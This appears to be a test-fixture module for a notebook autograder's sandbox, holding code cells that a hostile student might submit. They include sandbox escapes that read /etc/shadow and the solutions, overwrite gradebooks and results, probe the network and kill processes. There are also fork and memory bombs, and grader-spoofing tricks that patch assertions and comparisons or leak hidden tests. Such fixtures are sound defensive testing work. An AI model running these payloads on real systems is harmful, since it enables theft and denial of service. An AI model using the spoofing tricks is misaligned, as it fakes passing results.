"""Attack cells: each is code a hostile student puts in a notebook. Placeholders: REPO, OUT."""

# Tries to read and write everything the grader holds, to reach the network, and to leave processes behind.
ESCAPE = r"""
import glob, json, os, socket, subprocess
REPO, OUT = "@REPO@", "@OUT@"
targets = [REPO + "/solutions/*/*.ipynb", REPO + "/grader/work/*", REPO + "/course/*/*.ipynb", REPO + "/README.md",
           "/tmp/grade-*/*/input/*", "/tmp/grade-*/*/spec.json", OUT + "/*", OUT + "/feedback/*/*", "/root/*",
           "/etc/shadow", REPO + "/.git/config"]
readable = []
for pattern in targets:
    for path in glob.glob(pattern)[:20]:
        try:
            with open(path, "rb") as handle:
                handle.read(64)
            readable.append(path)
        except OSError:
            pass
try:  # the sandbox has its own passwd (its user, root, nobody); the host's names its system users
    if "daemon:" in open("/etc/passwd").read():
        readable.append("/etc/passwd of the host")
except OSError:
    pass
print("ESCAPED" + "-READ=" + repr(readable) if readable else "SAFE" + "-READ")
# earn points with the solutions if they could be read
for path in glob.glob(REPO + "/solutions/*/*.ipynb"):
    try:
        for cell in json.load(open(path))["cells"]:
            if "### BEGIN SOLUTION" in "".join(cell["source"]):
                exec("".join(cell["source"]), globals())
    except Exception:
        pass
written = []
for path in [REPO + "/solutions/pwned.txt", REPO + "/grader/work/gradebook.db", REPO + "/pwned.txt",
             OUT + "/grades.csv", OUT + "/pwned.txt", "/root/pwned.txt", "/usr/pwned.txt",
             REPO + "/.venv/pwned.txt", REPO + "/src/resumable/pwned.py"]:
    try:
        with open(path, "a") as handle:
            handle.write("pwned")
        written.append(path)
    except OSError:
        pass
for pattern in ["/tmp/grade-*/*/result.json", "/tmp/grade-*/*"]:
    for path in glob.glob(pattern):
        try:
            with open(os.path.join(path, "result.json") if os.path.isdir(path) else path, "w") as handle:
                handle.write("{}")
            written.append(path)
        except OSError:
            pass
print("ESCAPED" + "-WRITE=" + repr(written) if written else "SAFE" + "-WRITE")
network = []
for host, port in [("pypi.org", 443), ("151.101.0.223", 443), ("1.1.1.1", 53), ("127.0.0.1", 22)]:
    try:
        socket.create_connection((host, port), timeout=3).close()
        network.append(host)
    except OSError:
        pass
print("ESCAPED" + "-NET=" + repr(network) if network else "SAFE" + "-NET")
subprocess.Popen(["sleep", "100000"], start_new_session=True)
if os.fork() == 0:  # a daemon that outlives the kernel, unless the sandbox kills it
    os.setsid()
    if os.fork() == 0:
        import time
        while True:
            time.sleep(1)
    os._exit(0)
try:
    os.kill(1, 9)
    print("ESCAPED" + "-KILL")
except OSError:
    print("SAFE" + "-KILL")
"""

# Overwrites every entry of its kernel's compilation cache and adds one: only its own copy may change.
POISON_CACHE = r"""
import glob, os
cache = os.environ.get("RESUMABLE_JAX_CACHE", "")
poisoned = 0
for path in glob.glob(os.path.join(cache, "*")) if cache else []:
    try:
        with open(path, "wb") as handle:
            handle.write(b"POISON")
        poisoned += 1
    except OSError:
        pass
if cache:
    with open(os.path.join(cache, "jit_poison-0-cache"), "wb") as handle:
        handle.write(b"POISON")
print("POISONED-OWN-COPY" if poisoned else "NO-CACHE-COPY", poisoned)
"""

FORK_BOMB = r"""
import os, time
children = 0
try:
    while True:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.5)
        children += 1
except OSError as error:
    print("fork bomb stopped after", children, "children:", type(error).__name__)
"""

MEMORY_BOMB = r"""
chunks = []
try:
    huge = bytearray(64 * 1024**3)
except MemoryError:
    print("64 GB refused")
while True:
    chunks.append(bytearray(512 * 1024**2))
"""

INFINITE_LOOP = "while True:\n    pass\n"

EXIT = "import os\nos._exit(0)\n"

KILL_KERNEL = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"

# An object that claims to equal anything, to contain anything, to be any length...
ANYTHING = r"""
class Anything(dict):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __contains__(self, item): return True
    def __getattr__(self, name): return self
    def __getitem__(self, key): return self
    def __call__(self, *args, **kwargs): return self
    def __bool__(self): return True
    def __len__(self): return 0
    def __iter__(self): return iter(())
    def __hash__(self): return 0
    def __float__(self): return 0.0
    def __int__(self): return 0
    def __index__(self): return 0
    def __lt__(self, other): return False
    def __gt__(self, other): return False
    __le__ = __ge__ = __eq__
"""

PATCH_COMPARISONS = r"""
import builtins, numpy, numpy.testing, sys
numpy.array_equal = lambda *args, **kwargs: True
numpy.allclose = lambda *args, **kwargs: True
numpy.testing.assert_array_equal = lambda *args, **kwargs: None
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.testing.assert_equal = lambda *args, **kwargs: None
if "jax.numpy" in sys.modules:
    sys.modules["jax.numpy"].array_equal = lambda *args, **kwargs: True
    sys.modules["jax.numpy"].allclose = lambda *args, **kwargs: True
if "resumable" in sys.modules:
    class _Same:
        identical = True
        paths = []
        differences = []
        def summary(self, limit=5): return "identical"
        def __bool__(self): return True
    sys.modules["resumable"].state_diff = lambda *args, **kwargs: _Same()
    sys.modules["resumable.diff"].state_diff = lambda *args, **kwargs: _Same()
    sys.modules["resumable.diff"].StateDiff.identical = property(lambda self: True)
"""

PATCH_BUILTINS = r"""
import builtins
class FakeAssertionError(Exception):
    pass
builtins.AssertionError = FakeAssertionError
builtins.all = lambda *args: True
builtins.any = lambda *args: False
"""

SWALLOW_ERRORS = r"""
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
"""

STRIP_ASSERTS = r"""
def _no_asserts(lines):
    return [line for line in lines if not line.lstrip().startswith(("assert", "raise"))]
get_ipython().input_transformers_cleanup.append(_no_asserts)
"""

CLEAR_OUTPUTS = r"""
import threading, time
from IPython.display import clear_output
def _clear_forever():
    while True:
        clear_output()
        time.sleep(0.001)
threading.Thread(target=_clear_forever, daemon=True).start()
"""

# Prints everything the kernel has seen, hidden tests included; run after the hidden tests.
EXFILTRATE = r"""
import linecache
print(In)
print(_ih)
print([entry[2] for entry in linecache.cache.values() if len(entry) > 2])
"""
